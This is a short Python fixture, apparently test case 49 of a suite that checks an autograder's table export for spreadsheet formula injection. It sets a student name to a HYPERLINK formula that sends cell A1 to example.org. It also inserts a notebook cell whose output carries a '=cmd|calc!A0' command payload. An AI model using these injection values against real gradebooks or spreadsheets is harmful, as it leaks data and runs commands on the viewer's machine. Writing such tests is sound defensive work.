# attack: 49
# title: a spreadsheet formula as the student's name and as output
# success: a cell of an exported table begins with it
# kind: submission
# student: '=HYPERLINK("http:example.org?x="&A1,"27")'
# naive: csv
import json


def build(folder, notebook):
    cell = code_cell("print('=cmd|calc!A0')\nraise ValueError('=1+1')")
    notebook["cells"].insert(3, cell)
    (folder / "a07_backpropagation.ipynb").write_text(json.dumps(notebook))
